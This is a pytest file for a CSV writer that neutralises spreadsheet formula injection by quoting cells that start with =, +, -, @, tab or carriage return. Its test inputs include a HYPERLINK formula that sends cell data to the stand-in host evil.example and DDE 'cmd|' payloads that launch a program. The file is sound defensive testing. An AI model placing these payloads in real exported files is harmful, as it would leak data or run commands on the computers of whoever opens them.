"""The spreadsheet-safe CSV writer: text that would run as a formula comes out quoted, numbers as they are."""

from __future__ import annotations

import csv
import io

import pytest

from retain.csv_export import csv_text, write_csv

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def one_cell(value: object) -> str:
    header, row = cells(csv_text(["x"], [[value]]))
    return row[0]


def test_a_formula_segment_is_text() -> None:
    assert one_cell(HYPERLINK) == "'" + HYPERLINK


@pytest.mark.parametrize("text", ["=1+2", "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+2", "\r=1+2"])
def test_every_formula_lead_is_quoted(text: str) -> None:
    assert one_cell(text) == "'" + text


@pytest.mark.parametrize("customer_id", ["-42", "+4420794600", "-", "@acme"])
def test_customer_ids_that_look_like_formulas_are_quoted(customer_id: str) -> None:
    assert one_cell(customer_id) == "'" + customer_id


def test_a_reason_text_is_quoted() -> None:
    reason = "=cmd|' /C calc'!A0 contacts in 30 days"
    header, row = cells(csv_text(["reason_1", "reason_2"], [[reason, "3 contacts in 30 days"]]))
    assert row == ["'" + reason, "3 contacts in 30 days"]


@pytest.mark.parametrize("text", ["premium", "ACME/42", "a=b", " =1", "segment [beta]", ""])
def test_other_text_is_unchanged(text: str) -> None:
    assert one_cell(text) == text


@pytest.mark.parametrize(("number", "shown"), [(-0.5, "-0.5"), (0.25, "0.25"), (-3, "-3"), (0, "0"),
                                               (-1e-09, "-1e-09"), (True, "True")])
def test_numbers_are_unchanged(number: object, shown: str) -> None:
    assert one_cell(number) == shown


@pytest.mark.parametrize("missing", [None, float("nan")])
def test_missing_values_are_empty_cells(missing: object) -> None:
    assert one_cell(missing) == ""


@pytest.mark.parametrize("text", ["two\rlines", "two\nlines", "two\r\nlines", 'say "hi", twice'])
def test_line_breaks_quotes_and_commas_stay_in_their_cell(text: str) -> None:
    assert one_cell(text) == text


def test_rows_keep_their_shape_and_the_stream_writer_agrees() -> None:
    header = ["customer_id", "segment", "clv"]
    rows = [["-42", HYPERLINK, -0.5], ["C1", None, 12.0]]
    stream = io.StringIO()
    write_csv(stream, header, rows)
    assert stream.getvalue() == csv_text(header, rows)
    assert cells(stream.getvalue()) == [header, ["'-42", "'" + HYPERLINK, "-0.5"], ["C1", "", "12.0"]]
